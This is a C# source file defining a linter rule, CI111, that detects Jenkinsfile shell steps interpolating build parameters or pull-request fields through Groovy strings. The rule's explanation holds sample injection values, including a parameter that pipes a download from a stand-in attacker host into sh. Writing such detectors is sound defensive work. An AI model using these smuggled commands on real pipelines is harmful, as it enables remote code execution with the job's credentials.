using Bulwark.Core;

namespace Bulwark.Rules.Ci;

/// <summary>CI111: a Jenkinsfile interpolates a build parameter or pull-request field into a shell step with a Groovy GString.</summary>
public sealed class JenkinsInterpolationRule : FileRule
{
    public static readonly RuleInfo Rule = new(
        "CI111", "jenkins-shell-interpolation", Family.Ci, Severity.High, Confidence.Medium, 78,
        What: """
            A `sh`, `bat`, `powershell` or `pwsh` step of a Jenkinsfile whose script is a double-quoted Groovy string
            interpolating a build parameter (`${params.BRANCH}`) or a pull-request field (`${env.CHANGE_TITLE}`,
            `$CHANGE_BRANCH`, GitHub/GitLab plugin variables such as `ghprbPullTitle`).
            """,
        Why: """
            Groovy substitutes `${…}` into the string before the shell runs it, so the value becomes part of the
            command: a parameter `main; curl https://evil.example | sh` or a pull request titled `$(id)` runs on the
            agent with the job's credentials. Jenkins' own documentation warns against this form.
            """,
        Example: """
            pipeline {
              agent any
              parameters { string(name: 'BRANCH', defaultValue: 'main') }
              stages {
                stage('build') { steps { sh "git checkout ${params.BRANCH}" } }
              }
            }
            """,
        Fix: "Use a single-quoted script so the shell, not Groovy, expands an environment variable as data: `sh 'git checkout \"$BRANCH\"'` (parameters are also in the environment).",
        References:
        [
            "https://www.jenkins.io/doc/book/pipeline/jenkinsfile/#string-interpolation",
            "https://www.jenkins.io/doc/book/pipeline/jenkinsfile/#injection-via-interpolation",
        ])
    { Compliance = Compliance.Injection, Profiles = RuleProfile.Default, ExampleLanguage = "groovy" };

    public override RuleInfo Info => Rule;
    public override bool AppliesTo(DiscoveredFile file) => file.Kind == FileKind.Jenkinsfile;

    public override void Check(SourceFile file, FileContext context)
    {
        foreach (var i in Jenkinsfile.ShellStepInterpolations(file.Text.Text))
            if (Jenkinsfile.UserControlled(i.Expression) is { } what)
                context.Report(this, i.Start, i.End,
                    $"{what} is interpolated by Groovy into the shell script before it runs, so it can inject commands; use a single-quoted script and \"$NAME\"");
    }
}
